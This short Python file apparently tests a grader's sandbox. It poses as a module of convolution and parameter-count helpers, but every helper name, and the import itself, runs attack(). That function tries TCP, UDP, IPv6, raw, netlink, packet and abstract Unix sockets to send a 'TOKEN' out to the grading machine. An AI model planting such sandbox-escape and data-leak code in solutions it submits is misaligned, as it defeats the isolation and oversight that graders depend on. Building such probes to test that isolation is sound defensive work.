"""Reach the network: TCP and UDP to the grader's machine, IPv6, raw sockets, an abstract Unix socket."""
import socket

MESSAGE = b"TOKEN"


def attack():
    attempts = [
        lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(MESSAGE),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(MESSAGE, ("127.0.0.1", UDP_PORT)),
        lambda: socket.create_connection(("::1", PORT), timeout=2).sendall(MESSAGE),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
        lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).bind(("0.0.0.0", 0)),
    ]
    for attempt in attempts:
        try:
            attempt()
        except Exception:
            pass
    try:
        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        client.connect(b"\0" + b"ABSTRACT")
        client.sendall(MESSAGE)
    except Exception:
        pass
    return -1


attack()


def conv_output_size(*args, **kwargs):
    return attack()


pool_output_size = same_padding = conv2d_num_params = linear_num_params = trace_shapes = conv_output_size
